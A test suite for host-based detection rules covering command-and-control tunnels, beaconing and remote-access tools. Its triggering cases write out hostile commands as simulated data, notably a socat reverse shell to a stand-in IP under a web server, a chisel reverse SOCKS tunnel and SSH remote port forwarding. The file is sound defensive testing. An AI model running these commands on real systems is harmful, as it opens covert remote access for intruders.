import type { TestProcess } from '@ringfence/testkit';
import { IPPROTO, records, SOCK } from '@ringfence/wire';
import { asksFor, nobodyHas } from './packets.ts';
import { NOBODY, type Scene, testContent, underWebServer } from './support.ts';

const { AF_INET, AF_PACKET } = records.AddressFamily;
const started = (words: string) => (s: Scene) => s.start(words);

/** So many connections, `seconds` apart. */
function calls(s: Scene, process: TestProcess, count: number, seconds: number, address = '203.0.113.9'): void {
  for (let n = 0; n < count; n++) {
    s.connect(process, address, 443);
    s.ktime += seconds * 1_000_000;
  }
}

/** Connections, so many seconds after each other. */
function callsAfter(s: Scene, process: TestProcess, pauses: readonly number[]): void {
  for (const pause of [...pauses, 0]) calls(s, process, 1, pause);
}

function texts(s: Scene, by: string, count: number, type: string): void {
  const process = s.start(by);
  for (let n = 0; n < count; n++) asksFor(s, process, `${n}.t.example`, type);
}

const raw = (by: string, protocol: number) => (s: Scene) => s.socket(s.start(by), { type: SOCK.RAW, protocol });
const listen = (by: string, address: string) => (s: Scene) =>
  s.socket(s.start(by), { operation: 3, result: 0, port: 4444, address: Buffer.from(address.split('.').map(Number)) });

/** AF_PACKET, SOCK_RAW, ETH_P_ALL */
const PACKETS = { family: AF_PACKET, type: SOCK.RAW, protocol: 768 };

function strangers(s: Scene, process: TestProcess, count: number, name?: string): void {
  for (let n = 0; n < count; n++) nobodyHas(s, process, `${name ?? `x${n}`}.example`);
}

testContent('tunnels.yaml', {
  'Answers taken from DNS texts': {
    as: 'warning command-and-control T1071.004',
    fires: { 'a shell by DNS': (s) => texts(s, '/tmp/x', 30, 'TXT') },
    quiet: {
      'twenty-nine': (s) => texts(s, '/tmp/x', 29, 'TXT'),
      addresses: (s) => texts(s, '/usr/bin/firefox', 90, 'A'),
      'a resolver': (s) => texts(s, '/usr/sbin/unbound', 90, 'TXT'),
    },
  },
  'Tunnel started': {
    as: 'warning command-and-control T1572',
    fires: {
      chisel: started('/tmp/chisel client 203.0.113.9:8080 R:socks'),
      ngrok: started('/usr/local/bin/ngrok tcp 22'),
    },
    quiet: {
      'a private network': started('/usr/sbin/openvpn --config x'),
      'its page': started('/usr/bin/curl https://x.example/chisel'),
    },
  },
  'Port made reachable from outside by SSH': {
    as: 'notice command-and-control T1572',
    fires: {
      'a port': started('/usr/bin/ssh -N -R 2222:localhost:22 x'),
      'a proxy': started('/usr/bin/ssh -fND 1080 x'),
    },
    quiet: {
      'a port of the other end': started('/usr/bin/ssh -L 5432:db:5432 x'),
      'a login': started('/usr/bin/ssh web-2'),
      'a copy': started('/usr/bin/ssh -x -oPermitLocalCommand=no -oRemoteCommand=none -l ann -s -- web-2 sftp'),
    },
  },
  'Hidden network used': {
    as: 'warning command-and-control T1090.003',
    fires: { tor: started('/tmp/tor -f x'), 'a name': (s) => asksFor(s, s.start('/usr/bin/curl x'), 'abcdef.onion') },
    quiet: {
      'its service': (s) => s.start('/usr/bin/tor -f /etc/tor/torrc', s.init),
      'another name': (s) => asksFor(s, s.start('/usr/bin/curl x'), 'onion.example'),
    },
  },
  'Socket of ICMP made by a stranger': {
    as: 'warning command-and-control T1095',
    fires: { 'a tunnel': raw('/tmp/x', 1), python: raw('/usr/bin/python3 x.py', 1) },
    quiet: { ping: raw('/usr/bin/ping x', 1), 'another protocol': raw('/tmp/x', 89) },
  },
  'Call home at regular times': {
    as: 'warning command-and-control T1071',
    fires: {
      'each minute': (s) => calls(s, s.start('/tmp/x'), 8, 60),
      'each five minutes, give or take': (s) => callsAfter(s, s.start('/tmp/x'), [300, 240, 290, 210, 300, 250, 260]),
      'two connections a call': (s) => callsAfter(s, s.start('/tmp/x'), [0.2, 60, 0.1, 60, 0.1, 60, 60, 60, 60, 60]),
    },
    quiet: {
      'seven times': (s) => calls(s, s.start('/tmp/x'), 7, 60),
      'each hour': (s) => calls(s, s.start('/tmp/x'), 24, 3600),
      'somebody who talks all the time': (s) => calls(s, s.start('/tmp/x'), 200, 0.5),
      'one burst': (s) => calls(s, s.start('/tmp/x'), 50, 0.01),
      'as it comes': (s) => callsAfter(s, s.start('/tmp/x'), [3, 60, 4, 200, 12, 31, 90, 5, 44, 7, 130, 21, 70, 9]),
      'each time somewhere else': (s) => {
        for (let n = 0; n < 20; n++) calls(s, s.start('/tmp/x'), 1, 60, `203.0.113.${n}`);
      },
      'a program that is installed': (s) => calls(s, s.start('/usr/bin/x'), 100, 5),
      'to its own house': (s) => calls(s, s.start('/tmp/x'), 100, 5, '10.0.0.1'),
    },
  },
  'Download at regular times': {
    as: 'notice command-and-control T1071.001',
    fires: {
      'each minute': (s) => {
        for (let n = 0; n < 8; n++) calls(s, s.start('/usr/bin/curl x'), 1, 60);
      },
    },
    quiet: {
      'each four hours': (s) => calls(s, s.start('/usr/bin/curl x'), 40, 14_400),
      'what an installer loads': (s) => callsAfter(s, s.start('/usr/bin/curl x'), [2, 9, 3, 30, 2, 4, 14, 2, 7, 21]),
      'its own': (s) => calls(s, s.start('/usr/bin/curl x'), 100, 5, '127.0.0.1'),
    },
  },
  'Connections at regular times': {
    as: 'notice command-and-control T1071',
    fires: {
      'Python, each hour': (s) => calls(s, s.start('/usr/bin/python3 agent.py'), 10, 3600),
      'a program of one user': (s) => calls(s, s.start('/home/ann/.local/bin/x'), 10, 30),
    },
    quiet: {
      'an agent of the system': (s) => calls(s, s.start('/usr/sbin/agentd'), 50, 60),
      'nine times': (s) => calls(s, s.start('/usr/bin/python3 agent.py'), 9, 3600),
      'a crawler': (s) => callsAfter(s, s.start('/usr/bin/python3 x.py'), [2, 3, 9, 2, 20, 3, 5, 2, 11, 4, 2, 8]),
    },
  },
  'Place to drop data asked for': {
    as: 'warning command-and-control exfiltration T1102 T1567',
    fires: { curl: (s) => asksFor(s, s.start('/usr/bin/curl x'), 'transfer.sh') },
    quiet: {
      'a browser': (s) => asksFor(s, s.start('/usr/bin/firefox'), 'pastebin.com'),
      'one that was unpacked by hand': (s) => asksFor(s, s.start('/opt/brave.com/brave/brave'), 'pastebin.com'),
      'another name': (s) => asksFor(s, s.start('/usr/bin/curl x'), 'example.org'),
    },
  },
  'Download tool started by a server': {
    as: 'error command-and-control T1105',
    fires: {
      'through a shell': (s) =>
        s.start(
          '/usr/bin/curl http://203.0.113.9/x',
          s.start('/bin/sh -c x', s.start('/usr/sbin/httpd', s.init)),
          NOBODY,
        ),
    },
    quiet: {
      'itself is asked': (s) =>
        s.start('/usr/bin/curl http://localhost/', s.start('/bin/sh -c x', s.start('/usr/sbin/httpd', s.init))),
      'by a person': started('/usr/bin/curl http://203.0.113.9/x'),
    },
  },
  'Program in a scratch folder waits for callers': {
    as: 'warning command-and-control T1571',
    fires: { 'of everybody': listen('/tmp/x', '0.0.0.0') },
    quiet: { 'of itself': listen('/tmp/x', '127.0.0.1'), 'a server': listen('/usr/sbin/nginx', '0.0.0.0') },
  },
  'Tool for access from afar started': {
    as: 'notice command-and-control T1219.002 T1219.001',
    fires: {
      tmate: (s) => s.start('/usr/bin/tmate -F'),
      "an editor's tunnel": (s) => s.start('/usr/bin/code tunnel --accept-server-license-terms'),
    },
    quiet: {
      'a service that is installed': (s) => s.start('/usr/bin/anydesk --service', s.init),
      'an editor': (s) => s.start('/usr/bin/code .'),
    },
  },
  "Tool for access from afar started by a server's command": {
    as: 'error command-and-control T1219.002',
    fires: {
      'under a web server': (s) => s.start('/usr/bin/tmate -F', ...underWebServer(s)),
    },
    quiet: {
      'by a person': (s) => s.start('/usr/bin/tmate -F'),
      'another program': (s) => s.start('/usr/bin/tmux new', ...underWebServer(s)),
    },
  },
  "Names that don't exist asked again and again": {
    as: 'warning command-and-control T1568.002',
    fires: {
      'made-up names': (s) => strangers(s, s.start('/tmp/x'), 40),
    },
    quiet: {
      'thirty-nine': (s) => strangers(s, s.start('/tmp/x'), 39),
      'a resolver': (s) => strangers(s, s.start('/usr/sbin/unbound', s.init), 100),
      'the same name': (s) => strangers(s, s.start('/tmp/x'), 100, 'same'),
    },
  },
  'Name of a service for changing addresses asked for': {
    as: 'notice command-and-control T1568',
    fires: {
      'a program of nobody': (s) => asksFor(s, s.start('/tmp/x'), 'evil.duckdns.org'),
    },
    quiet: {
      'a browser that is installed': (s) => asksFor(s, s.start('/usr/bin/firefox'), 'nas.duckdns.org'),
      'another name': (s) => asksFor(s, s.start('/tmp/x'), 'www.example.org'),
    },
  },
  'Packet socket of a stranger': {
    as: 'warning command-and-control stealth persistence T1205.002',
    fires: {
      'a program in /dev/shm': (s) => s.socket(s.start('/dev/shm/kdmtmpflush'), PACKETS),
    },
    quiet: {
      tcpdump: (s) => s.socket(s.start('/usr/bin/tcpdump -i eth0'), PACKETS),
      'it may not': (s) => s.socket(s.start('/tmp/x'), { ...PACKETS, result: -1 }),
      'an echo': (s) => s.socket(s.start('/tmp/x'), { family: AF_INET, type: SOCK.RAW, protocol: IPPROTO.ICMP }),
    },
  },
  "Encrypted connection opened by a server's command": {
    as: 'error command-and-control T1573.002',
    fires: {
      openssl: (s) => s.start('/usr/bin/openssl s_client -quiet -connect 203.0.113.9:443', ...underWebServer(s)),
      socat: (s) => s.start('/usr/bin/socat EXEC:sh OPENSSL:203.0.113.9:443', ...underWebServer(s)),
    },
    quiet: {
      'an administrator': (s) => s.start('/usr/bin/openssl s_client -connect web-1:443'),
      'a hash': (s) => s.start('/usr/bin/openssl dgst -sha256 x', ...underWebServer(s)),
    },
  },
});
